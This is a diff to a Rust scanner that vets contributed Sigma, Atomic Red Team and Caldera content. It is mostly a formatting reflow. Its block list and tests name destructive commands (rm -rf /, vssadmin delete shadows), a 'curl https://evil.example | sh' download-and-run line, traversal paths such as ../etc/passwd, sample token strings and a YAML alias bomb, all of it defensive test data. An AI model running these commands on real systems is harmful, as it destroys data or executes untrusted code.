@@ -39,7 +39,9 @@ impl ContentKind {
         if lower.contains("atomics/") || text.contains("atomic_tests:") {
             Self::Atomic
         } else if lower.contains("abilities/")
-            || (text.contains("tactic:") && text.contains("technique:") && text.contains("platforms:"))
+            || (text.contains("tactic:")
+                && text.contains("technique:")
+                && text.contains("platforms:"))
         {
             Self::Caldera
         } else if text.contains("logsource:") || text.contains("detection:") {
@@ -57,7 +59,10 @@ impl ContentKind {
 
     #[must_use]
     pub const fn is_yaml(self) -> bool {
-        matches!(self, Self::Sigma | Self::Atomic | Self::Caldera | Self::Yaml)
+        matches!(
+            self,
+            Self::Sigma | Self::Atomic | Self::Caldera | Self::Yaml
+        )
     }
 
     #[must_use]
@@ -133,7 +138,9 @@ fn path_traversal(file: &FileDiff, findings: &mut Vec<Finding>) {
                 path,
                 None,
                 path,
-                format!("the file name {why}: a consumer that writes it may write outside its folder"),
+                format!(
+                    "the file name {why}: a consumer that writes it may write outside its folder"
+                ),
                 "use a plain relative path inside the repository",
             ));
         }
@@ -260,12 +267,14 @@ fn confusables(path: &str, line: &NewLine<'_>, findings: &mut Vec<Finding>) {
 
 /// The positions where `needle` starts in `text` with no letter or digit before it.
 fn starts<'a>(text: &'a str, needle: &'a str) -> impl Iterator<Item = usize> + 'a {
-    text.match_indices(needle).map(|(i, _)| i).filter(move |&i| {
-        text[..i]
-            .chars()
-            .next_back()
-            .is_none_or(|c| !c.is_ascii_alphanumeric())
-    })
+    text.match_indices(needle)
+        .map(|(i, _)| i)
+        .filter(move |&i| {
+            text[..i]
+                .chars()
+                .next_back()
+                .is_none_or(|c| !c.is_ascii_alphanumeric())
+        })
 }
 
 /// The run of characters after `from` that `allowed` accepts.
@@ -338,7 +347,9 @@ fn secrets(path: &str, line: &NewLine<'_>, findings: &mut Vec<Finding>) {
     let before = findings.len();
     for prefix in ["AKIA", "ASIA"] {
         for at in starts(text, prefix) {
-            let body = run(text, at + 4, |c| c.is_ascii_uppercase() || c.is_ascii_digit());
+            let body = run(text, at + 4, |c| {
+                c.is_ascii_uppercase() || c.is_ascii_digit()
+            });
             if body.len() == 16 {
                 let secret = &text[at..at + 20];
                 findings.push(secret_finding(
@@ -539,8 +550,14 @@ const DESTRUCTIVE: [(&str, &str); 12] = [
     ("rm -rf /", "deletes the root file system"),
     ("rm -rf ~", "deletes the home directory"),
     ("rm -rf --no-preserve-root", "deletes the root file system"),
-    ("vssadmin delete shadows", "deletes the volume shadow copies"),
-    ("vssadmin.exe delete shadows", "deletes the volume shadow copies"),
+    (
+        "vssadmin delete shadows",
+        "deletes the volume shadow copies",
+    ),
+    (
+        "vssadmin.exe delete shadows",
+        "deletes the volume shadow copies",
+    ),
     ("wmic shadowcopy delete", "deletes the volume shadow copies"),
     ("wbadmin delete catalog", "deletes the backup catalog"),
     ("recoveryenabled no", "disables Windows recovery"),
@@ -567,7 +584,9 @@ fn destructive(path: &str, line: &NewLine<'_>, findings: &mut Vec<Finding>) {
         // `format c:` and `format d: /q`, not `--format` or `format-list`.
         what = starts(&lower, "format ").find_map(|at| {
             let before = lower[..at].chars().next_back();
-            if before.is_some_and(|c| !(c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\'' | '(' | '`'))) {
+            if before.is_some_and(|c| {
+                !(c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\'' | '(' | '`'))
+            }) {
                 return None;
             }
             let arg = lower[at + 7..].trim_start();
@@ -613,7 +632,9 @@ fn unquoted(text: &str) -> String {
         match quote {
             Some(q) if c == q => quote = None,
             Some(_) => {}
-            None if (c == '\'' || c == '"') && matches!(previous, ' ' | ':' | '-' | '[' | ',' | '{') => {
+            None if (c == '\'' || c == '"')
+                && matches!(previous, ' ' | ':' | '-' | '[' | ',' | '{') =>
+            {
                 quote = Some(c);
             }
             None if c == '#' && (previous == ' ' || out.is_empty()) => break,
@@ -633,7 +654,9 @@ fn yaml_markers(text: &str, marker: char) -> usize {
     while let Some(c) = chars.next() {
         if c == marker
             && matches!(previous, ' ' | '[' | ',' | '{' | '-')
-            && chars.peek().is_some_and(|n| n.is_alphanumeric() || *n == '_')
+            && chars
+                .peek()
+                .is_some_and(|n| n.is_alphanumeric() || *n == '_')
         {
             count += 1;
         }
@@ -732,7 +755,10 @@ fn yaml_duplicate_keys(path: &str, file: &FileDiff, findings: &mut Vec<Finding>)
             let mut content = content;
             // Each `- ` opens a fresh mapping (a list item) at the indentation after it.
             let mut fresh = false;
-            while let Some(rest) = content.strip_prefix("- ").or_else(|| (content == "-").then_some("")) {
+            while let Some(rest) = content
+                .strip_prefix("- ")
+                .or_else(|| (content == "-").then_some(""))
+            {
                 indent += content.len() - rest.trim_start().len();
                 content = rest.trim_start();
                 fresh = true;
@@ -740,7 +766,10 @@ fn yaml_duplicate_keys(path: &str, file: &FileDiff, findings: &mut Vec<Finding>)
             let Some((key, value)) = yaml_key(content) else {
                 continue;
             };
-            while scopes.last().is_some_and(|(i, _)| *i > indent || (fresh && *i == indent)) {
+            while scopes
+                .last()
+                .is_some_and(|(i, _)| *i > indent || (fresh && *i == indent))
+            {
                 scopes.pop();
             }
             if scopes.last().is_none_or(|(i, _)| *i < indent) {
@@ -877,14 +906,20 @@ mod tests {
     fn bidi_controls_are_trojan_source() {
         for c in ['\u{202A}', '\u{202E}', '\u{2066}', '\u{2069}'] {
             let body = SIGMA.replace("title: Clean", &format!("title: Cle{c}an"));
-            assert_eq!(rules_of(&added("rules/a.yml", &body)), one("bidi-control", 1));
+            assert_eq!(
+                rules_of(&added("rules/a.yml", &body)),
+                one("bidi-control", 1)
+            );
         }
     }
 
     #[test]
     fn invisible_characters_are_found_but_a_leading_bom_is_not() {
         let body = SIGMA.replace("status: test", "status: te\u{200B}st");
-        assert_eq!(rules_of(&added("rules/a.yml", &body)), one("invisible-character", 3));
+        assert_eq!(
+            rules_of(&added("rules/a.yml", &body)),
+            one("invisible-character", 3)
+        );
         let bom = format!("\u{FEFF}{SIGMA}");
         assert_eq!(rules_of(&added("rules/a.yml", &bom)), vec![]);
     }
@@ -907,7 +942,10 @@ mod tests {
         let cases = [
             ("key: AKIAIOSFODNN7EXAMPLE", "secret-aws-access-key"),
             ("key: ASIAY34FZKBOKMUTVV7A", "secret-aws-access-key"),
-            ("t: ghp_0123456789abcdefghijABCDEFGHIJ012345", "secret-github-token"),
+            (
+                "t: ghp_0123456789abcdefghijABCDEFGHIJ012345",
+                "secret-github-token",
+            ),
             (
                 "t: github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
                 "secret-github-token",
@@ -959,9 +997,15 @@ mod tests {
             "COMMAND",
             "curl -s https://raw.githubusercontent.com/redcanaryco/x.sh | bash",
         );
-        assert_eq!(rules_of(&added("atomics/T1059.004/T1059.004.yaml", &allowed)), vec![]);
+        assert_eq!(
+            rules_of(&added("atomics/T1059.004/T1059.004.yaml", &allowed)),
+            vec![]
+        );
         // A Sigma rule names the same command to detect it.
-        let rule = SIGMA.replace("condition: selection", "condition: selection # curl https://evil.example | sh");
+        let rule = SIGMA.replace(
+            "condition: selection",
+            "condition: selection # curl https://evil.example | sh",
+        );
         assert_eq!(rules_of(&added("rules/a.yml", &rule)), vec![]);
     }
 
@@ -980,34 +1024,53 @@ mod tests {
                 "{command}"
             );
         }
-        for command in ["rm -rf /tmp/atomic", "Get-Thing | Format-List", "echo --format x:"] {
+        for command in [
+            "rm -rf /tmp/atomic",
+            "Get-Thing | Format-List",
+            "echo --format x:",
+        ] {
             let body = ATOMIC.replace("COMMAND", command);
-            assert_eq!(rules_of(&added("atomics/T1490/T1490.yaml", &body)), vec![], "{command}");
+            assert_eq!(
+                rules_of(&added("atomics/T1490/T1490.yaml", &body)),
+                vec![],
+                "{command}"
+            );
         }
         let cleaned = format!(
             "{}    cleanup_command: |\n      vssadmin resize shadowstorage\n",
             ATOMIC.replace("COMMAND", "vssadmin delete shadows /all /quiet")
         );
-        assert_eq!(rules_of(&added("atomics/T1490/T1490.yaml", &cleaned)), vec![]);
+        assert_eq!(
+            rules_of(&added("atomics/T1490/T1490.yaml", &cleaned)),
+            vec![]
+        );
     }
 
     #[test]
     fn alias_ladders_are_bombs() {
-        let bomb = "a: &a [\"lol\",\"lol\"]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: &d [*c,*c,*c]\n";
+        let bomb =
+            "a: &a [\"lol\",\"lol\"]\nb: &b [*a,*a,*a]\nc: &c [*b,*b,*b]\nd: &d [*c,*c,*c]\n";
         assert_eq!(rules_of(&added("x.yml", bomb)), one("yaml-alias-bomb", 1));
         let wide: String = std::iter::once("base: &x 1\n".to_owned())
             .chain((0..=MAX_ALIASES).map(|i| format!("k{i}: *x\n")))
             .collect();
         assert_eq!(rules_of(&added("x.yml", &wide)), one("yaml-alias-bomb", 1));
         // Wildcards in quoted Sigma values are not aliases.
-        let quoted = "detection:\n    s:\n        - '*\\a.exe'\n        - \"*b*\"\n    condition: s\n";
+        let quoted =
+            "detection:\n    s:\n        - '*\\a.exe'\n        - \"*b*\"\n    condition: s\n";
         assert_eq!(rules_of(&added("x.yml", quoted)), vec![]);
     }
 
     #[test]
     fn duplicate_yaml_keys_are_found_in_their_mapping_only() {
-        let body = SIGMA.replace("    condition: selection\n", "    condition: selection\n    condition: 1 of them\n");
-        assert_eq!(rules_of(&added("rules/a.yml", &body)), one("yaml-duplicate-key", 14));
+        let body = SIGMA.replace(
+            "    condition: selection\n",
+            "    condition: selection\n    condition: 1 of them\n",
+        );
+        assert_eq!(
+            rules_of(&added("rules/a.yml", &body)),
+            one("yaml-duplicate-key", 14)
+        );
         // The same key in sibling list items or different mappings is fine.
         let fine = "a:\n  - x: 1\n    y: 2\n  - x: 3\nb:\n  x: 1\nc:\n  x: 2\n";
         assert_eq!(rules_of(&added("f.yml", fine)), vec![]);
@@ -1015,7 +1078,8 @@ mod tests {
 
     #[test]
     fn duplicate_toml_keys_and_tables_are_found() {
-        let body = "[rule]\nname = \"a\"\nquery = '''\nname = x\n'''\nname = \"b\"\n[metadata]\n[rule]\n";
+        let body =
+            "[rule]\nname = \"a\"\nquery = '''\nname = x\n'''\nname = \"b\"\n[metadata]\n[rule]\n";
         assert_eq!(
             rules_of(&added("rules/r.toml", body)),
             vec![
@@ -1029,10 +1093,13 @@ mod tests {
 
     #[test]
     fn file_names_may_not_leave_the_repository() {
-        for path in ["../etc/passwd.yml", "rules/../../x.yml", "/etc/cron.d/x", "C:/x.yml"] {
-            let diff = format!(
-                "--- /dev/null\n+++ {path}\n@@ -0,0 +1 @@\n+x: 1\n"
-            );
+        for path in [
+            "../etc/passwd.yml",
+            "rules/../../x.yml",
+            "/etc/cron.d/x",
+            "C:/x.yml",
+        ] {
+            let diff = format!("--- /dev/null\n+++ {path}\n@@ -0,0 +1 @@\n+x: 1\n");
             let found = rules_of(&diff);
             assert_eq!(found, vec![("path-traversal".to_owned(), None)], "{path}");
         }
